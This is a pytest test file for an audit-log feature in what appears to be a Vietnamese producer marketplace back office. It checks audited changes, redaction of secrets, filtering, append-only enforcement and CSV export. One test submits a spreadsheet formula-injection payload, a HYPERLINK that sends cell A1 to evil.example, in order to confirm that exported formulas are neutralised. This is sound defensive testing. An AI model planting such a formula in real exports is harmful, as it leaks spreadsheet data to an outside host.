"""The audit log: every change by a signed-in user, in the same transaction, with before →
after; nothing for a failed change; append-only (a PostgreSQL trigger refuses UPDATE)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from app import audit
from app.clock import today
from app.extensions import db
from tests.backoffice.office.conftest import audit_rows, sign_in
from tests.factories import (
    make_certificate,
    make_producer,
    make_product,
    make_token,
    make_user,
    order_payload,
    receive_stock,
)


def test_a_revocation_is_one_audit_row_with_before_and_after(client, officer, admin_headers):
    product = make_product(certified=False)
    cert = make_certificate(product, issued_on=today() - timedelta(days=100))
    response = client.post(f"/api/v1/admin/certificates/{cert.id}/revoke", headers=admin_headers,
                           json={"reason": "Vi phạm an toàn thực phẩm"})
    assert response.status_code == 200
    rows = audit_rows("certificates", cert.id)
    assert len(rows) == 1
    row = rows[0]
    assert (row.action, row.actor, row.actor_role, row.actor_id) == (
        "update", officer.email, "admin", officer.id)
    assert row.before == {"revoked_on": None, "revoke_reason": None}
    assert row.after == {"revoked_on": today().isoformat(), "revoke_reason": "Vi phạm an toàn thực phẩm"}
    assert row.client_hash and len(row.client_hash) == 32 and "127.0.0.1" not in row.client_hash


def test_a_producer_deactivation_is_one_audit_row(client, admin_headers):
    producer = make_producer(email="htx@example.com")
    response = client.patch(f"/api/v1/admin/producers/{producer.slug}", headers=admin_headers,
                            json={"active": False, "reason": "Giải thể"})
    assert response.status_code == 200, response.get_json()
    [row] = audit_rows("producers", producer.id)
    assert row.action == "update"
    assert row.before["active"] is True and row.after["active"] is False
    assert row.before["deactivation_reason"] is None and row.after["deactivation_reason"] == "Giải thể"


def test_a_price_change_by_the_producer_is_one_audit_row(client):
    producer = make_producer()
    seller = make_user("producer", producer=producer)
    product = make_product(producer, price_vnd=120000)
    response = client.patch(f"/api/v1/seller/products/{product.slug}",
                            headers={"Authorization": f"Bearer {make_token(seller)}"},
                            json={"price_vnd": 135000})
    assert response.status_code == 200
    [row] = audit_rows("products", product.id)
    assert (row.actor, row.actor_role) == (seller.email, "producer")
    assert row.before == {"price_vnd": 120000} and row.after == {"price_vnd": 135000}


def test_a_price_change_through_the_seller_form_is_audited_for_the_session_user(client):
    producer = make_producer()
    seller = make_user("producer", producer=producer)
    product = make_product(producer, price_vnd=50000, name="Cơm cháy", unit="gói")
    sign_in(client, seller)
    response = client.post(f"/seller/products/{product.slug}", data={
        "name": "Cơm cháy", "group": "food", "price_vnd": "55000", "unit": "gói", "published": "y",
        "description": "Mô tả"})
    assert response.status_code == 302
    [row] = audit_rows("products", product.id)
    assert row.actor == seller.email and row.after["price_vnd"] == 55000


def test_a_failed_change_leaves_no_audit_row(client, admin_headers):
    product = make_product(certified=False)
    cert = make_certificate(product, issued_on=today() - timedelta(days=10))
    response = client.post(f"/api/v1/admin/certificates/{cert.id}/revoke", headers=admin_headers,
                           json={"reason": "x", "revoked_on": (today() - timedelta(days=30)).isoformat()})
    assert response.status_code == 422
    response = client.patch(f"/api/v1/admin/producers/{product.producer.slug}", headers=admin_headers,
                            json={"active": False})
    assert response.status_code == 422  # a reason is required
    assert audit_rows() == []
    db.session.refresh(product.producer)
    assert product.producer.active is True


def test_a_change_that_fails_in_the_database_takes_its_audit_row_with_it(app, db_session, officer):
    product = make_product()
    with app.test_request_context("/"), audit.acting_as(officer):
        savepoint = db.session.begin_nested()
        product.price_vnd = 99
        db.session.flush()
        assert len(audit_rows("products", product.id)) == 1  # written with the change...
        savepoint.rollback()
    assert audit_rows("products", product.id) == []  # ...and gone with it


def test_anonymous_orders_are_not_audited(client):
    product = make_product()
    receive_stock(product, 5)
    response = client.post("/api/v1/orders", json=order_payload((product, 1)))
    assert response.status_code == 201
    assert audit_rows() == []


def test_inserts_are_audited_with_their_values_and_secrets_are_redacted(client, admin_headers):
    response = client.post("/api/v1/admin/producers", headers=admin_headers, json={
        "name": "HTX Mật ong Bạc Hà", "kind": "cooperative", "tax_code": "5300123456",
        "province_code": 15, "address": "Bắc Hà"})
    assert response.status_code == 201
    [row] = audit_rows("producers")
    assert row.action == "insert" and row.before is None
    assert row.after["name"] == "HTX Mật ong Bạc Hà" and row.after["tax_code"] == "5300123456"
    user = make_user("customer")
    with audit.acting_as(make_user("admin")):
        user.password_hash = "new-hash"
        db.session.flush()
    [row] = [r for r in audit_rows("users", user.id) if r.action == "update"]
    assert row.before == {"password_hash": "***"} and row.after == {"password_hash": "***"}


def test_the_api_filters_the_log(client, officer, admin_headers):
    producer = make_producer()
    client.patch(f"/api/v1/admin/producers/{producer.slug}", headers=admin_headers,
                 json={"address": "Số 1 Bắc Hà"})
    client.patch(f"/api/v1/admin/producers/{producer.slug}", headers=admin_headers,
                 json={"active": False, "reason": "Tạm ngừng sản xuất"})
    body = client.get(f"/api/v1/admin/audit?object_type=producers&object_id={producer.id}",
                      headers=admin_headers).get_json()
    assert body["total"] == 2
    latest = body["items"][0]
    assert set(latest) >= {"at", "actor", "action", "object_type", "object_id", "before", "after"}
    assert latest["after"]["active"] is False and latest["actor"] == officer.email
    assert client.get(f"/api/v1/admin/audit?actor={officer.email}&action=insert",
                      headers=admin_headers).get_json()["total"] == 0
    tomorrow = (today() + timedelta(days=1)).isoformat()
    assert client.get(f"/api/v1/admin/audit?since={tomorrow}", headers=admin_headers
                      ).get_json()["total"] == 0
    assert client.get(f"/api/v1/admin/audit?until={today().isoformat()}", headers=admin_headers
                      ).get_json()["total"] == 2
    assert client.get("/api/v1/admin/audit?since=yesterday", headers=admin_headers).status_code == 422
    seller = make_user("producer", producer=producer)
    assert client.get("/api/v1/admin/audit", headers={
        "Authorization": f"Bearer {make_token(seller)}"}).status_code == 403


def test_the_screen_filters_and_exports_csv_with_formulas_neutralised(client, officer):
    producer = make_producer(name="HTX Gốc")
    sign_in(client, officer)
    response = client.post(f"/admin/producers/{producer.slug}/edit", data={
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"open")', "kind": "cooperative",
        "tax_code": producer.tax_code, "province_code": "92", "address": "Cần Thơ"})
    assert response.status_code == 302
    html = client.get("/admin/audit?object_type=producers").get_data(as_text=True)
    assert "HTX Gốc" in html and officer.email in html
    assert client.get("/admin/audit?action=delete").get_data(as_text=True).count("<del>") == 0
    exported = client.get("/admin/audit?object_type=producers&format=csv")
    assert exported.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["at", "actor", "actor_role"] and len(rows) == 2
    assert all(not cell.startswith("=") for cell in rows[1])


def test_an_objects_own_page_shows_its_audit(client, officer):
    product = make_product(certified=False)
    cert = make_certificate(product, issued_on=date(2025, 1, 15))
    sign_in(client, officer)
    client.post(f"/admin/certificates/{cert.id}/revoke", data={"reason": "Hết điều kiện"})
    html = client.get(f"/admin/products/{product.slug}").get_data(as_text=True)
    assert "Nhật ký thay đổi" in html and "Hết điều kiện" in html and officer.email in html


def test_no_route_updates_or_deletes_the_log(app):
    for rule in app.url_map.iter_rules():
        if "audit" in rule.rule:
            assert rule.methods <= {"GET", "HEAD", "OPTIONS"}, rule


@pytest.mark.postgres
def test_on_postgres_the_audit_table_refuses_update_and_delete(db_session, officer):
    with audit.acting_as(officer):
        product = make_product()
        product.price_vnd = 1
        db_session.flush()
    assert audit_rows("products", product.id)
    for statement in ("UPDATE audit_log SET actor = 'someone else'", "DELETE FROM audit_log"):
        savepoint = db_session.begin_nested()
        with pytest.raises(DBAPIError, match="append-only"):
            db_session.execute(text(statement))
        savepoint.rollback()
    assert audit_rows("products", product.id)[0].actor == officer.email


def test_a_counter_sale_is_audited_for_the_sales_point_user(client):
    from showrooms.stock import sales_point_location
    from tests.factories import make_sales_point

    point = make_sales_point()
    staff = make_user("sales_point", sales_point=point)
    product = make_product(price_vnd=180000)
    receive_stock(product, 5, location=sales_point_location(db.session, point))
    response = client.post(f"/api/v1/sales-points/{point.code}/sales",
                           headers={"Authorization": f"Bearer {make_token(staff)}"},
                           json={"items": [{"product": product.slug, "quantity": 2}]})
    assert response.status_code == 201
    [sale] = [r for r in audit_rows("stock_movements") if r.after.get("kind") == "sale"]
    assert sale.action == "insert" and sale.actor == staff.email and sale.actor_role == "sales_point"
    assert sale.after["quantity"] == -2 and sale.after["product_id"] == product.id
    [level] = [r for r in audit_rows("stock_levels") if r.action == "update"]
    assert level.before == {"on_hand": 5} and level.after == {"on_hand": 3}


def test_stamp_issuance_by_a_producer_is_one_audit_row(client):
    from tests.factories import make_lot

    producer = make_producer()
    seller = make_user("producer", producer=producer)
    lot = make_lot(make_product(producer))
    response = client.post(f"/api/v1/seller/lots/{lot.id}/stamps",
                           headers={"Authorization": f"Bearer {make_token(seller)}"},
                           json={"count": 25})
    assert response.status_code == 201
    [row] = audit_rows("stamps", f"lot:{lot.id}")
    assert row.actor == seller.email and row.after == {"lot_id": lot.id, "count": 25,
                                                       "ordinals": [1, 25]}
